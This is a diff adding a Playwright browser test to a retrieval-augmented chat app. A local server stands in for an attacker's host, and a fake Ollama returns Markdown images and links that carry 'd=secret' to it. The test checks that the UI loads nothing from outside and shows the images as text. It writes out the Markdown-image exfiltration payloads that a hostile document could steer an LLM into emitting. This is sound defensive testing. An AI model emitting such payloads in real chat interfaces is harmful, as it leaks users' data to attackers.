@@ -8,14 +8,18 @@ to docs/screenshot-chat.png (the README's screenshot), so that a plain test run 
 
 from __future__ import annotations
 
+import json
 import os
 import shutil
 import subprocess
 import sys
+import threading
 import time
 import urllib.request
 from collections.abc import Callable, Iterator
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
+from typing import Any
 
 import pytest
 
@@ -25,6 +29,7 @@ from rag.encoder import Encoder
 from rag.store import MilvusStore
 from tests.support.ollama_server import OllamaTestServer, free_port
 from tests.ui.conftest import APP, KB, write_config
+from ui.safe_markdown import WORD_JOINER
 
 ROOT = APP.parent.parent
 CHROMIUM = next((p for p in (os.environ.get("CHROMIUM_PATH"), shutil.which("chromium"), "/usr/bin/chromium")
@@ -146,3 +151,103 @@ def test_chat_in_a_real_browser(app_url: str, ollama_server: OllamaTestServer) -
     assert shot.stat().st_size > 10_000
     if os.environ.get("UPDATE_SCREENSHOT") == "1":
         shutil.copyfile(shot, ROOT / "docs" / "screenshot-chat.png")
+
+
+class OutsideServer:
+    """Another origin (its own port on 127.0.0.1) standing for an attacker's host: records every path requested."""
+
+    def __init__(self) -> None:
+        paths = self.paths = []
+
+        class Handler(BaseHTTPRequestHandler):
+            def do_GET(self) -> None:
+                paths.append(self.path)
+                self.send_response(200)
+                self.send_header("Content-Type", "image/gif")
+                self.end_headers()
+                self.wfile.write(b"GIF89a\x01\x00\x01\x00\x00\x00\x00;")
+
+            def log_message(self, format: str, *args: Any) -> None:
+                pass
+
+        self.httpd = ThreadingHTTPServer(("127.0.0.1", free_port()), Handler)
+        self.url = f"http://127.0.0.1:{self.httpd.server_address[1]}"
+        threading.Thread(target=self.httpd.serve_forever, daemon=True).start()
+
+    def close(self) -> None:
+        self.httpd.shutdown()
+        self.httpd.server_close()
+
+
+@pytest.fixture
+def outside() -> Iterator[OutsideServer]:
+    server = OutsideServer()
+    yield server
+    server.close()
+
+
+def hostile_reply(outside: str) -> Callable[[dict[str, Any]], str]:
+    """Ollama replies a hostile document could steer a model into: Markdown images and links to ``outside``."""
+
+    def reply(body: dict[str, Any]) -> str:
+        if "standalone question" in json.dumps(body["messages"]):  # the follow-up rewrite
+            return f"remote work ![q]({outside}/rewritten.gif?d=secret) <{outside}/rewritten-auto>"
+        return (f"Three days per week [1]. ![exfil]({outside}/answer.gif?d=secret) ![ref][r] "
+                f"[details]({outside}/answer-link) <{outside}/answer-auto> {outside}/answer-bare\n\n"
+                f"[r]: {outside}/answer-ref.gif\n")
+
+    return reply
+
+
+@pytest.mark.skipif(CHROMIUM is None, reason="Debian's chromium is not installed (apt-get install -y chromium); "
+                                             "the browser test drives it through Playwright")
+def test_item1_text_from_the_llm_and_from_files_loads_nothing_from_outside(
+    app_url: str, ollama_server: OllamaTestServer, outside: OutsideServer, tmp_path: Path
+) -> None:
+    from playwright.sync_api import expect, sync_playwright
+
+    ollama_server.behaviour.reply = hostile_reply(outside.url)
+    records = tmp_path / "hostile.jsonl"  # a duplicate record id: the failed-files box shows the id
+    image_id = f"![f]({outside.url}/failed-file.gif?d=secret)"
+    records.write_text("".join(json.dumps({"id": image_id, "text": f"row {n}"}) + "\n" for n in (1, 2)),
+                       encoding="utf-8")
+    requests: list[str] = []
+    with sync_playwright() as pw:
+        browser = pw.chromium.launch(executable_path=CHROMIUM, headless=True,
+                                     args=["--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage"])
+        try:
+            page = browser.new_page(viewport={"width": 1400, "height": 1250})
+            page.on("request", lambda request: requests.append(request.url))
+            page.goto(app_url)
+            box = page.get_by_test_id("stChatInputTextArea")
+            box.wait_for(timeout=120_000)
+            box.fill(QUESTION)
+            box.press("Enter")
+            answers = page.get_by_test_id("stChatMessage")
+            expect(answers.nth(1)).to_contain_text("Three days per week [1].", timeout=60_000)
+            expect(page.locator(".rs-card").first).to_be_visible(timeout=30_000)
+            box.fill("And after that?")
+            box.press("Enter")
+            expect(answers.nth(3)).to_contain_text("Searched for: remote work", timeout=60_000)
+            shown = [answers.nth(1).inner_text(), answers.nth(3).inner_text()]
+
+            page.goto(f"{app_url}/knowledge-bases")
+            page.get_by_test_id("stFileUploaderDropzoneInput").set_input_files(str(records))
+            page.get_by_role("button", name="Ingest").click()
+            failed = page.get_by_test_id("stAlert").filter(has_text="Failed files")
+            expect(failed).to_contain_text("duplicate id", timeout=60_000)
+            shown.append(failed.inner_text())
+            page.wait_for_timeout(1000)  # time for any image to be requested
+            loaders = page.locator(f"[data-testid=stMain] img, [data-testid=stMain] a[href^='{outside.url}']")
+            loaders = loaders.evaluate_all("found => found.map(e => e.outerHTML)")
+        finally:
+            browser.close()
+    assert outside.paths == []  # the outside host saw nothing ...
+    assert [url for url in requests if not url.startswith((app_url + "/", "data:", "blob:"))] == []  # ... nor any
+    assert loaders == []
+    # What the user sees instead: images and links as text.
+    answer, follow_up, failed_box = (text.replace(WORD_JOINER, "") for text in shown)  # invisible anyway
+    assert "[image: exfil]" in answer and "[image: ref]" in answer
+    assert f"details ({outside.url}/answer-link)" in answer and f"{outside.url}/answer-auto" in answer
+    assert f"Searched for: remote work ![q]({outside.url}/rewritten.gif?d=secret) <{outside.url}" in follow_up
+    assert f"duplicate id '{image_id}'" in failed_box
